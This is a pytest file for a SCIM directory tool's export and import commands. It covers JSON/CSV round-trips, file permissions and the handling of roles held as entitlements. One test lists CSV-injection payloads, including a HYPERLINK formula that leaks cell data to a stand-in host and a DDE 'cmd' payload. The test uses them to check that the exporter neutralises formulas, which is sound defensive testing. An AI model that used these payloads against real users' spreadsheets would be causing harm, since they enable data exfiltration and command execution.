"""scimctl export then import round-trips a directory with users, roles, groups and members, on both stores."""

from __future__ import annotations

import asyncio
import csv
import io
import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from scim.app import build_app
from scim.cli import main
from scim.config import Settings
from scim.model import Caller
from scim.secrets import MemorySecretStore
from scim.service.admin import AdminService
from scim.service.export import neutralised
from scim.store.base import Store
from tests.support.app import BASE
from tests.support.feed import cli

ENTERPRISE = "urn:ietf:params:scim:schemas:extension:enterprise:2.0:User"


async def _provision(store: Store) -> dict[str, str]:
    """A directory as Entra leaves it: roles, users (one disabled, one with a manager), groups with members."""
    app = build_app(Settings(public_base_url=BASE), store=store, secret_store=MemorySecretStore())
    try:
        admin = AdminService(app.store, app.clients, app.tokens)
        # Every setting away from its default but externalId, which stays shared (its default, README).
        directory = await admin.ensure_directory("dev", policy="create", role_mode="multiple", event_values=True)
        for role in ("Auditor", "Viewer"):
            await admin.add_role("dev", role)
        caller = Caller("admin", directory)
        ana = await app.users.create(caller, {"userName": "ana@x.test", "roles": [{"value": "Auditor"}]})
        bo = await app.users.create(
            caller,
            {"userName": "bo@x.test", "active": False, "externalId": "e-2", ENTERPRISE: {"manager": {"value": ana.id}}},
        )
        await app.users.create(caller, {"userName": "cy@x.test", "roles": [{"value": "Viewer"}, {"value": "Auditor"}]})
        # Shares bo's externalId (mailNickname is not unique in Entra), holds its role as an entitlement.
        await app.users.create(
            caller,
            {
                "userName": "dy@x.test",
                "externalId": "e-2",
                "entitlements": [{"value": "Viewer"}],
                "name": {"givenName": "Dy"},
                "emails": [{"value": "dy@x.test", "type": "work", "primary": True}],
                "urn:example:ext": {"badge": "7"},
            },
        )
        ops = await app.groups.create(caller, {"displayName": "Ops", "members": [{"value": ana.id}, {"value": bo.id}]})
        await app.groups.create(caller, {"displayName": "Empty"})
        return {"ana": ana.id, "bo": bo.id, "ops": ops.id}
    finally:
        await app.close()


def _comparable(text: str) -> dict[str, Any]:
    doc: dict[str, Any] = json.loads(text)
    doc.pop("exported")
    doc["directory"].pop("id")
    return doc


def test_export_then_import_round_trips_a_directory(
    stores: Callable[[], Store], capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    ids = asyncio.run(_provision(stores()))
    backup = tmp_path / "dev.json"
    summary = json.loads(cli(capsys, "export", "--directory", "dev", "--output", str(backup), "--json"))
    assert summary | {"output": ""} == {
        "directory": "dev",
        "format": "json",
        "output": "",
        "roles": 2,
        "groups": 2,
        "users": 4,
        "memberships": 2,
    }
    assert json.loads(backup.read_text())["directory"] == {
        "id": "dev",
        "namePolicy": "create",
        "roleMode": "multiple",
        "uniqueExternalId": False,
        "eventValues": True,
        "eventFormat": "v1",
    }
    doc = json.loads(backup.read_text())
    users = {u["data"]["userName"]: u for u in doc["users"]}
    assert users["ana@x.test"]["groups"] == [ids["ops"]] and users["bo@x.test"]["groups"] == [ids["ops"]]
    assert users["ana@x.test"]["data"]["roles"] == [{"value": "Auditor"}]
    assert sorted(next(g for g in doc["groups"] if g["id"] == ids["ops"])["members"]) == sorted([ids["ana"], ids["bo"]])

    dry = json.loads(cli(capsys, "import", str(backup), "--directory", "copy", "--dry-run", "--json"))
    assert (dry["create_directory"], dry["users"], dry["groups"], dry["memberships"]) == (True, 4, 2, 2)
    assert [d["directory"] for d in json.loads(cli(capsys, "directory", "list", "--json"))] == ["dev"]  # dry run
    imported = json.loads(cli(capsys, "import", str(backup), "--directory", "copy", "--json"))
    assert (imported["roles"], imported["users"], imported["groups"], imported["refused"]) == (2, 4, 2, [])
    again = cli(capsys, "export", "--directory", "copy")
    assert _comparable(again) == _comparable(backup.read_text())  # ids, roles, memberships, settings: all kept
    assert _comparable(again)["directory"] == _comparable(backup.read_text())["directory"]

    # Importing the same file again finds it all there and writes nothing (an interrupted import resumes so).
    twice = json.loads(cli(capsys, "import", str(backup), "--directory", "copy", "--json"))
    assert (twice["users"], twice["groups"], twice["already_there"]) == (0, 0, {"users": 4, "groups": 2})
    assert _comparable(cli(capsys, "export", "--directory", "copy")) == _comparable(again)


def test_csv_export_lists_users_with_roles_and_groups_and_groups_with_members(
    stores: Callable[[], Store], capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    ids = asyncio.run(_provision(stores()))
    out = tmp_path / "dev.csv"
    cli(capsys, "export", "--directory", "dev", "--format", "csv", "--output", str(out))
    assert cli(capsys, "export", "--directory", "dev", "--format", "csv") == out.read_text()  # or to stdout
    rows = list(csv.DictReader(io.StringIO(out.read_text())))
    by_name = {r["name"]: r for r in rows}
    assert [r["type"] for r in rows].count("role") == 2
    assert by_name["cy@x.test"]["roles"] == "Auditor;Viewer" and by_name["cy@x.test"]["groups"] == ""
    assert by_name["bo@x.test"] | {"id": ""} == {
        "type": "user",
        "id": "",
        "name": "bo@x.test",
        "external_id": "e-2",
        "active": "false",
        "roles": "",
        "groups": ids["ops"],
        "members": "",
    }
    assert sorted(by_name["Ops"]["members"].split(";")) == sorted([ids["ana"], ids["bo"]])


def test_import_refuses_what_is_not_an_export(
    stores: Callable[[], Store], capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    bad = tmp_path / "bad.json"
    bad.write_text('{"users": []}')
    cli(capsys, "import", str(bad), "--directory", "x", code=1)
    bad.write_text("name,id\n")
    cli(capsys, "import", str(bad), "--directory", "x", code=1)
    cli(capsys, "export", "--directory", "nowhere", code=1)


# Written out here rather than taken from the code under test: OWASP's list and its fullwidth forms.
FORMULA_CHARACTERS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
HOSTILE_CELLS = [
    '=HYPERLINK("http://evil.test/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\uff1dSUM(1+1)",
    "\uff0bcmd",
    "\uff0d1",
    "\uff20SUM(1)",
]


async def _hostile(store: Store) -> None:
    """Users and self-service groups whose names Entra could send (UPN, mailNickname, group names under `create`)."""
    app = build_app(Settings(public_base_url=BASE), store=store, secret_store=MemorySecretStore())
    try:
        admin = AdminService(app.store, app.clients, app.tokens)
        caller = Caller("admin", await admin.ensure_directory("dev", policy="create"))
        for n, cell in enumerate(HOSTILE_CELLS):
            await app.users.create(caller, {"userName": f"{cell}{n}", "externalId": cell})
            await app.groups.create(caller, {"displayName": f"{cell}{n}"})
    finally:
        await app.close()


def test_csv_export_neutralises_formulas_and_is_readable_only_by_its_owner(
    stores: Callable[[], Store], capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    """OWASP "CSV Injection": no cell the csv module reads back begins with a formula character; the file is 0600."""
    asyncio.run(_hostile(stores()))
    out = tmp_path / "dev.csv"
    out.write_text("an older export")
    out.chmod(0o644)
    cli(capsys, "export", "--directory", "dev", "--format", "csv", "--output", str(out))
    with out.open(newline="", encoding="utf-8") as opened:
        cells = [cell for row in csv.reader(opened) for cell in row]
    names = [cell for cell in cells if cell.startswith("'")]
    assert len(names) >= 2 * len(HOSTILE_CELLS)  # each user's name and externalId, each group's name
    assert [cell for cell in cells if cell.startswith(FORMULA_CHARACTERS)] == []
    assert "'" + '=HYPERLINK("http://evil.test/?"&A1,"click")0' in cells
    assert out.stat().st_mode & 0o777 == 0o600
    # Identifiers hold no control characters, so a tab or CR start reaches no export today; the rule covers them.
    assert [neutralised(c) for c in ("\tx", "\rx", "ok", "a=b")] == ["'\tx", "'\rx", "ok", "a=b"]
    (tmp_path / "dev.json").unlink(missing_ok=True)
    cli(capsys, "export", "--directory", "dev", "--output", str(tmp_path / "dev.json"))
    assert (tmp_path / "dev.json").stat().st_mode & 0o777 == 0o600


async def _entitled(store: Store) -> None:
    """A user whose role came as an entitlement (the senhasegura mapping) and one holding it through roles."""
    app = build_app(Settings(public_base_url=BASE), store=store, secret_store=MemorySecretStore())
    try:
        admin = AdminService(app.store, app.clients, app.tokens)
        caller = Caller("admin", await admin.ensure_directory("dev", role_mode="multiple"))
        for role in ("Auditor", "Viewer"):
            await admin.add_role("dev", role)
        await app.users.create(caller, {"userName": "en@x.test", "entitlements": [{"value": "Auditor"}]})
        await app.users.create(caller, {"userName": "ro@x.test", "roles": [{"value": "Viewer"}]})
    finally:
        await app.close()


def test_roles_held_as_entitlements_count_everywhere_scimctl_shows_roles(
    stores: Callable[[], Store], capsys: pytest.CaptureFixture[str]
) -> None:
    """user list/show, the CSV export and role remove's in-use check all see the union of roles and entitlements."""
    asyncio.run(_entitled(stores()))
    listed = {
        u["userName"]: u["roles"] for u in json.loads(cli(capsys, "user", "list", "--directory", "dev", "--json"))
    }
    assert listed == {"en@x.test": ["Auditor"], "ro@x.test": ["Viewer"]}
    assert json.loads(cli(capsys, "user", "show", "en@x.test", "--directory", "dev", "--json"))["roles"] == ["Auditor"]
    rows = {
        r["name"]: r
        for r in csv.DictReader(io.StringIO(cli(capsys, "export", "--directory", "dev", "--format", "csv")))
    }
    assert rows["en@x.test"]["roles"] == "Auditor"
    assert main(["role", "remove", "Auditor", "--directory", "dev"]) == 1
    assert "held by 1 user (en@x.test)" in capsys.readouterr().err
    assert {r["value"] for r in json.loads(cli(capsys, "role", "list", "--directory", "dev", "--json"))} == {
        "Auditor",
        "Viewer",
    }
